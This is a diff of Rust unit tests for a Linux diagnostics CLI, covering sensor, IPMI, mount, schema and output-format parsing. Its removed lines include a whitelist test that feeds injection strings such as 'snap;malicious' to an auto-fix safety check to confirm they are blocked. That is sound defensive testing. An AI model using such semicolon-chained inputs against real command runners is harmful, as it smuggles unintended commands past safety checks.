-    fn test_is_safe_auto_fix_allows_safe_commands() {
-        // Test exact matches
-        assert!(is_safe_auto_fix("bluetoothctl power off"));
-        assert!(is_safe_auto_fix("bluetoothctl power on"));
-        assert!(is_safe_auto_fix("balooctl"));
-        assert!(is_safe_auto_fix("docker image prune"));
+    fn test_watch_interval_parsing() {
+        assert_eq!(parse_watch_interval("200"), Ok(Duration::from_millis(200)));
+        assert_eq!(
+            parse_watch_interval(" 1500 "),
+            Ok(Duration::from_millis(1500))
+        );
+        assert_eq!(
+            parse_watch_interval("1"),
+            Ok(Duration::from_millis(WATCH_MIN_INTERVAL_MS))
+        );
+        assert!(parse_watch_interval("0").is_err());
+        assert!(parse_watch_interval("-5").is_err());
+        assert!(parse_watch_interval("fast").is_err());
+    }
 
-        // Test prefix with space (arguments)
-        assert!(is_safe_auto_fix("snap remove old-package"));
-        assert!(is_safe_auto_fix("flatpak uninstall com.example.App"));
-        assert!(is_safe_auto_fix("systemctl --user stop baloo"));
+    #[test]
+    fn test_tui_history_keeps_last_points() {
+        let mut history = std::collections::VecDeque::new();
+        for value in 0..(TUI_HISTORY_POINTS + 5) {
+            push_history(&mut history, Some(value as f32 + 0.7));
+        }
+        // No GPU reading: the graph keeps its last points
+        push_history(&mut history, None);
+        assert_eq!(history.len(), TUI_HISTORY_POINTS);
+        assert_eq!(history.front(), Some(&5));
+        assert_eq!(history.back(), Some(&(TUI_HISTORY_POINTS as u64 + 4)));
     }
 
     #[test]
-    fn test_is_safe_auto_fix_blocks_prefix_without_space() {
-        // Malicious commands that start with whitelisted prefix but no space
-        assert!(!is_safe_auto_fix("snap;malicious"));
-        assert!(!is_safe_auto_fix("balooctl;evil"));
+    fn test_ipmi_sdr_readings() {
+        let temperatures = "\
+Inlet Temp       | 04h | ok  |  7.1 | 23 degrees C
+Exhaust Temp     | 01h | ok  |  7.1 | 31 degrees C
+Temp             | 0Eh | ok  |  3.1 | 58 degrees C
+Temp             | 0Fh | ns  |  3.2 | Disabled
+Temp             | 10h | ns  |  3.3 | No Reading
+";
+        let fans = "\
+Fan1A RPM        | 30h | ok  |  7.1 | 4800 RPM
+Fan1B RPM        | 31h | ok  |  7.1 | 4680 RPM
+Fan2A RPM        | 32h | cr  |  7.1 | 0 RPM
+Fan Redundancy   | 75h | ok  |  7.1 | Fully Redundant
+";
+        assert_eq!(
+            ipmi_sdr_readings(temperatures, "degrees C"),
+            vec![23.0, 31.0, 58.0]
+        );
+        assert_eq!(ipmi_sdr_readings(fans, "RPM"), vec![4800.0, 4680.0, 0.0]);
+        assert_eq!(ipmi_sdr_readings(fans, "degrees C"), Vec::<f32>::new());
+        assert_eq!(
+            max_reading(
+                ipmi_sdr_readings(temperatures, "degrees C"),
+                &SENSOR_TEMP_RANGE_C
+            ),
+            Some(58.0)
+        );
+        // A stuck sensor does not win over a plausible one
+        assert_eq!(
+            max_reading([-273.0, 41.0], &SENSOR_TEMP_RANGE_C),
+            Some(41.0)
+        );
     }
 
     #[test]
-    fn test_gpu_memory_utilization_edge_cases() {
-        let gpu = GpuDetails {
-            vendor: "test".into(),
-            model: None,
-            driver: None,
-            temperature: None,
-            utilization: None,
-            memory_total_mb: Some(0.0),
-            memory_used_mb: Some(1000.0),
-            fan_speed_percent: None,
-        };
-        // Should return None for zero total memory
-        assert_eq!(gpu.memory_utilization(), None);
+    fn test_schema_dump_covers_serialized_fields() {
+        let dumped = serde_json::to_string_pretty(&schema::json_schema()).unwrap();
+        let parsed: serde_json::Value = serde_json::from_str(&dumped).unwrap();
+        assert!(parsed["properties"]["metrics"].is_object());
+        assert!(parsed["properties"]["findings"].is_object());
+        assert_eq!(
+            parsed["properties"]["schema_version"]["const"],
+            schema::SCHEMA_VERSION
+        );
 
-        let gpu2 = GpuDetails {
-            vendor: "test".into(),
-            model: None,
-            driver: None,
-            temperature: None,
-            utilization: None,
-            memory_total_mb: Some(0.0001), // Very small value
-            memory_used_mb: Some(100.0),
-            fan_speed_percent: None,
-        };
-        // Should return None for values below threshold
-        assert_eq!(gpu2.memory_utilization(), None);
+        // Every serialized Metrics field must be described (bump SCHEMA_VERSION when adding one)
+        let metrics = serde_json::to_value(Metrics::default()).unwrap();
+        let described = parsed["$defs"]["metrics"]["properties"]
+            .as_object()
+            .unwrap();
+        for field in metrics.as_object().unwrap().keys() {
+            assert!(
+                described.contains_key(field),
+                "schema misses metrics.{field}"
+            );
+        }
+        assert_eq!(described.len(), metrics.as_object().unwrap().len());
 
-        let gpu3 = GpuDetails {
-            vendor: "test".into(),
-            model: None,
-            driver: None,
-            temperature: None,
-            utilization: None,
-            memory_total_mb: Some(10240.0),
-            memory_used_mb: Some(5120.0),
-            fan_speed_percent: None,
-        };
-        // Should return proper percentage
-        assert_eq!(gpu3.memory_utilization(), Some(50.0));
+        let gpu = serde_json::to_value(GpuDetails::default()).unwrap();
+        let described = parsed["$defs"]["gpu"]["properties"].as_object().unwrap();
+        for field in gpu.as_object().unwrap().keys() {
+            assert!(described.contains_key(field), "schema misses gpu.{field}");
+        }
     }
 
     #[test]
-    fn test_parse_trigger_empty_and_malformed() {
-        // Empty string
-        let conditions = parse_trigger("");
-        assert_eq!(conditions.len(), 0);
+    fn test_sensor_readings_out_of_range_are_ignored() {
+        let sensors = "coretemp-isa-0000
+Adapter: ISA adapter
+Package id 0:  +61.0°C  (high = +100.0°C, crit = +100.0°C)
+Core 0:        +58.0°C  (high = +100.0°C, crit = +100.0°C)
+
+acpitz-acpi-0
+Adapter: ACPI interface
+temp1:       +3892.0°C
+temp2:       -273.2°C
+
+thinkpad-isa-0000
+Adapter: ISA adapter
+fan1:        2900 RPM
+fan2:       65535 RPM
+";
+        assert_eq!(max_temperature(sensors), Some(61.0));
+        assert_eq!(max_fan_speed(sensors), Some(2900.0));
+        assert_eq!(max_temperature("temp1:       +3892.0°C\n"), None);
+    }
 
-        // Only whitespace
-        let conditions = parse_trigger("   ");
-        assert_eq!(conditions.len(), 0);
+    #[test]
+    fn test_mount_scan_includes_tmpfs() {
+        let mounts = "proc /proc proc rw,nosuid,nodev,noexec,relatime 0 0
+sysfs /sys sysfs rw,nosuid,nodev,noexec,relatime 0 0
+/dev/nvme0n1p2 / ext4 rw,relatime 0 0
+tmpfs /tmp tmpfs rw,nosuid,nodev,size=8G 0 0
+tmpfs /dev/shm tmpfs rw,nosuid,nodev 0 0
+cgroup2 /sys/fs/cgroup cgroup2 rw 0 0
+/dev/sdb1 /media/USB\\040Stick vfat rw 0 0
+";
+        let parsed = parse_mounts(mounts);
+        let points: Vec<&str> = parsed.iter().map(|m| m.mount_point.as_str()).collect();
+        assert_eq!(points, vec!["/", "/tmp", "/dev/shm", "/media/USB Stick"]);
+        assert_eq!(parsed[1].fs_type, "tmpfs");
+
+        let df = "Filesystem     1024-blocks    Used Available Capacity Mounted on
+tmpfs              8388608 7969178    419430      95% /tmp
+tmpfs              8158720       0   8158720       0% /dev/shm
+";
+        let usage = parse_df_usage(df);
+        assert_eq!(usage[0], ("/tmp".to_string(), 95.0));
+
+        let trigger = parse_trigger("tmpfs_full>90");
+        let conditions = trigger.conditions();
+        let metrics = Metrics {
+            tmpfs_full_percent: Some(95.0),
+            ..Default::default()
+        };
+        assert!(condition_holds(conditions[0], &metrics, None));
+        assert!(!condition_holds(conditions[0], &Metrics::default(), None));
+    }
 
-        // Malformed (no operator)
-        let conditions = parse_trigger("cpu60");
-        assert_eq!(conditions.len(), 0);
+    #[test]
+    fn test_format_flag_selects_renderer() {
+        assert!(Cli::try_parse_from(["why", "--format", "bogus"]).is_err());
+        let default = Cli::try_parse_from(["why"]).unwrap();
+        assert_eq!(default.format, OutputFormat::Table);
+
+        let findings = vec![Finding {
+            message: "Root partition 93% full".to_string(),
+            solution: "Clean | prune".to_string(),
+            ..test_finding("disk_root_full", 9)
+        }];
+        let metrics = Metrics {
+            cpu_usage: Some(42.5),
+            ..Default::default()
+        };
 
-        // Invalid operator
-        let conditions = parse_trigger("cpu<>60");
-        assert_eq!(conditions.len(), 0);
+        for (value, expected) in [
+            ("table", OutputFormat::Table),
+            ("json", OutputFormat::Json),
+            ("plain", OutputFormat::Plain),
+            ("prometheus", OutputFormat::Prometheus),
+            ("md", OutputFormat::Md),
+            ("yaml", OutputFormat::Yaml),
+        ] {
+            let cli = Cli::try_parse_from(["why", "--format", value]).unwrap();
+            assert_eq!(cli.format, expected);
+
+            let out = output::render(cli.format, &findings, &metrics, &[], None, false).unwrap();
+            match expected {
+                OutputFormat::Table | OutputFormat::Plain => {
+                    assert!(out.starts_with("[9] disk_root_full: Root partition 93% full"));
+                    assert!(!out.contains("🔥"));
+                }
+                OutputFormat::Json => {
+                    let parsed: serde_json::Value = serde_json::from_str(&out).unwrap();
+                    assert_eq!(parsed["findings"][0]["severity_value"], 9);
+                }
+                OutputFormat::Yaml => {
+                    assert!(out.contains("rule_name: disk_root_full"));
+                }
+                OutputFormat::Md => {
+                    assert!(out.starts_with('|'));
+                    assert!(out.contains("Clean \\| prune"));
+                }
+                OutputFormat::Prometheus => {
+                    assert!(out.contains("\nwhy_cpu_usage_percent 42.5\n"));
+                    assert!(out.contains("\nwhy_findings_total 1\n"));
+                }
+            }
+        }
+
+        // Subcommand sections survive every text format
+        let sections = vec![
+            output::Section {
+                title: "Disks".to_string(),
+                error: None,
+                lines: vec![InsightLine {
+                    level: InsightLevel::Warning,
+                    message: "/home 91% full".to_string(),
+                }],
+            },
+            output::Section {
+                title: "SMART".to_string(),
+                error: Some("smartctl not installed".to_string()),
+                lines: Vec::new(),
+            },
+        ];
+        let render =
+            |format| output::render(format, &[], &metrics, &sections, None, false).unwrap();
+        let plain = render(OutputFormat::Plain);
+        assert!(plain.contains("\n== Disks ==\n[warning] /home 91% full\n"));
+        assert!(plain.contains("\n== SMART ==\n[error] smartctl not installed\n"));
+        let md = render(OutputFormat::Md);
+        assert!(md.contains("\n## Disks\n\n- **warning** /home 91% full\n"));
+        assert!(md.contains("_smartctl not installed_"));
+
+        // Prometheus has nowhere to put them, so those subcommands are refused
+        assert!(check_format(OutputFormat::Prometheus, &Commands::Disk).is_err());
+        assert!(check_format(OutputFormat::Prometheus, &Commands::All).is_ok());
+        assert!(check_format(OutputFormat::Plain, &Commands::Disk).is_ok());
+
+        // Text-only reports have nothing but the table to go to
+        let plain_gpu = Commands::Gpu {
+            vulkan: false,
+            encoder: false,
+            clocks: false,
+            save_baseline: false,
+            compare: false,
+        };
+        let gpu_clocks = Commands::Gpu {
+            vulkan: false,
+            encoder: false,
+            clocks: true,
+            save_baseline: false,
+            compare: false,
+        };
+        for format in [
+            OutputFormat::Json,
+            OutputFormat::Plain,
+            OutputFormat::Prometheus,
+        ] {
+            assert!(check_format(format, &Commands::Slow).is_err());
+            assert!(check_format(format, &plain_gpu).is_err());
+        }
+        assert!(check_format(OutputFormat::Table, &Commands::Slow).is_ok());
+        assert!(check_format(OutputFormat::Json, &gpu_clocks).is_ok());
+        assert!(check_format(OutputFormat::Json, &Commands::Mem { bandwidth: true }).is_ok());
+        assert!(reports_sections(&gpu_clocks));
+        assert!(reports_sections(&Commands::Mem { bandwidth: true }));
+        assert!(!reports_sections(&Commands::Mem { bandwidth: false }));
+        assert!(reports_sections(&Commands::Historical {
+            rule_stats: false,
+            metric: None,
+            prune: None,
+        }));
     }
 
     // Rules Validation Tests (for CI)
@@ -3914,9 +16418,9 @@ mod tests {
             );
 
             // Trigger must parse to at least one condition
-            let conditions = parse_trigger(&rule.trigger);
+            let trigger = parse_trigger(&rule.trigger);
             assert!(
-                !conditions.is_empty(),
+                !trigger.conditions().is_empty(),
                 "Rule '{}' has invalid trigger: '{}' (parsed to 0 conditions)",
                 rule.name,
                 rule.trigger